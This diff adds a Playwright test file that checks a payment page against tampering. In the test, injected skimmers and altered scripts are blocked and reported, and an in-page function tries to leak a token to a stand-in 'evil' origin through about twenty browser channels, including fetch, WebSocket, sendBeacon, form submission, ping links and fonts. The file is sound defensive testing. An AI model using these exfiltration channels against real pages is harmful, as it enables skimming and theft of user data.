@@ -1,0 +1,174 @@
+import { expect, test } from 'playwright/test'
+import { ALTERATION_KINDS } from '../src/campaign/tamper/alterations.ts'
+import { openEvilSite } from '../src/campaign/tamper/evil-site.ts'
+import { readBuild, tryAlteration } from '../src/campaign/tamper/try-alteration.ts'
+
+/** `npm run campaign:tamper` tries all kinds, at many places. */
+const SLICE = [
+  'one byte of a script',
+  'a skimmer after a script',
+  'another script of ours in its place',
+  'one byte of the first script',
+  "a skimmer in the frame's script",
+  'an inline script in the page',
+  'a handler of an image in the page',
+  'a frame in the page',
+  'a base in the page',
+  'a form in the page',
+  'a style in the page',
+  "a script of another site in the card's frame",
+]
+
+test('S-45 S-46: what is changed or injected on the way does not run, reaches nobody, and is counted', async ({
+  browser,
+}) => {
+  test.setTimeout(240_000)
+  const build = await readBuild()
+  for (const kind of SLICE) {
+    const seed = ALTERATION_KINDS.findIndex(([name]) => name === kind)
+    const { faults, reports } = await tryAlteration(browser, build, seed)
+    expect.soft({ kind, faults }).toEqual({ kind, faults: [] })
+    expect.soft(reports, kind).not.toEqual([])
+  }
+})
+
+test('S-46: a page that does not come alive tells of it', async ({ page }) => {
+  const told: unknown[] = []
+  await page.clock.install()
+  await page.route('**/assets/entry-*', () => undefined)
+  await page.route('**/reports', (route) => {
+    told.push(route.request().postDataJSON())
+    return route.fulfill({ status: 204 })
+  })
+  await page.goto('/c/x', { waitUntil: 'commit' })
+  await page.getByRole('heading').waitFor()
+  await page.clock.fastForward(30_000)
+  await expect.poll(() => told).toEqual([{ kind: 'not_started', what: '', page: '/c/x' }])
+})
+
+test('S-49: a script in the page reaches nobody, but by leading away', async ({
+  context,
+  page,
+}) => {
+  const evil = await openEvilSite()
+  // What is refused here is not for the operator's metric.
+  await page.route('**/reports', (route) => route.fulfill({ status: 204 }))
+  await page.goto('/c/x')
+  const failed = await page.evaluate(tryEveryChannel, evil.origin)
+  expect(failed).toEqual({
+    fetch: 'TypeError',
+    'fetch without CORS': 'TypeError',
+    XMLHttpRequest: 'error',
+    WebSocket: 'error',
+    EventSource: 'error',
+    Worker: 'TypeError',
+    'service worker': 'TypeError',
+    object: 'TypeError',
+    'frame with its text': 'TypeError',
+    import: 'TypeError',
+    eval: 'EvalError',
+    markup: 'TypeError',
+  })
+  const refused = () => page.evaluate(() => [...window.refusedByPolicy].toSorted())
+  await expect
+    .poll(refused)
+    .toEqual([
+      'connect-src',
+      'default-src',
+      'font-src',
+      'form-action',
+      'frame-src',
+      'img-src',
+      'media-src',
+      'require-trusted-types-for',
+      'script-src-elem',
+      'style-src-elem',
+    ])
+  expect(evil.asked).toEqual([])
+
+  // A policy cannot forbid these two, which is why the card is never in the page.
+  const [opened] = await Promise.all([
+    context.waitForEvent('page'),
+    page.evaluate((url) => void window.open(`${url}/opened`), evil.origin),
+  ])
+  await opened.waitForURL(`${evil.origin}/opened`)
+  expect(await opened.evaluate(() => window.opener === null)).toBe(true)
+  await page.evaluate((url) => location.assign(`${url}/away`), evil.origin)
+  await page.waitForURL(`${evil.origin}/away`)
+  await evil.close()
+})
+
+declare global {
+  interface Window {
+    refusedByPolicy: Set<string>
+  }
+}
+
+/** Runs in the page: tries to send something by every way there is, and says how each failed that tells. */
+async function tryEveryChannel(evil: string): Promise<Record<string, string>> {
+  const url = `${evil}/leak?4242`
+  const failures: Record<string, string> = {}
+  window.refusedByPolicy = new Set()
+  addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+    window.refusedByPolicy.add(effectiveDirective)
+  })
+  const attempt = async (name: string, make: () => unknown) => {
+    try {
+      await make()
+      failures[name] = 'it went through'
+    } catch (error) {
+      failures[name] = error instanceof Error ? error.name : 'error'
+    }
+  }
+  const broken = (target: EventTarget) =>
+    new Promise((resolve, reject) => {
+      for (const type of ['open', 'load', 'message']) target.addEventListener(type, resolve)
+      target.addEventListener('error', () => reject('error'))
+    })
+
+  await attempt('fetch', () => fetch(url, { method: 'POST', body: '4242' }))
+  await attempt('fetch without CORS', () => fetch(url, { mode: 'no-cors' }))
+  await attempt('XMLHttpRequest', () => {
+    const request = new XMLHttpRequest()
+    request.open('GET', url)
+    request.send()
+    return broken(request)
+  })
+  await attempt('WebSocket', () => broken(new WebSocket(url.replace('http', 'ws'))))
+  await attempt('EventSource', () => broken(new EventSource(url)))
+  navigator.sendBeacon(url, '4242')
+  await attempt('markup', () => {
+    document.body.innerHTML = `<img src="${url}">`
+  })
+  await attempt('eval', () => Reflect.construct(Function, ['return 1']))
+  await attempt('import', () => import(url))
+  const elements: [string, Record<string, string>][] = [
+    ['img', { src: url }],
+    ['video', { src: url }],
+    ['iframe', { src: url }],
+    ['link', { rel: 'stylesheet', href: url }],
+    ['link', { rel: 'prefetch', href: url }],
+    ['link', { rel: 'preload', as: 'image', href: url }],
+  ]
+  await attempt('Worker', () => new Worker(url))
+  await attempt('service worker', () => navigator.serviceWorker.register('/favicon.svg'))
+  await attempt('object', () => document.createElement('object').setAttribute('data', url))
+  await attempt('frame with its text', () => {
+    document.createElement('iframe').srcdoc = '<script>parent.ran = 1</script>'
+  })
+  for (const [name, attributes] of elements) {
+    const element = document.createElement(name)
+    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
+    document.body.append(element)
+  }
+  document.body.style.background = `url(${url})`
+  await new FontFace('leak', `url(${url})`).load().catch(() => undefined)
+  const form = document.body.appendChild(document.createElement('form'))
+  Object.assign(form, { action: url, method: 'post' })
+  form.submit()
+  const ping = document.body.appendChild(document.createElement('a'))
+  ping.setAttribute('ping', url)
+  ping.setAttribute('href', '#here')
+  ping.click()
+  return failures
+}
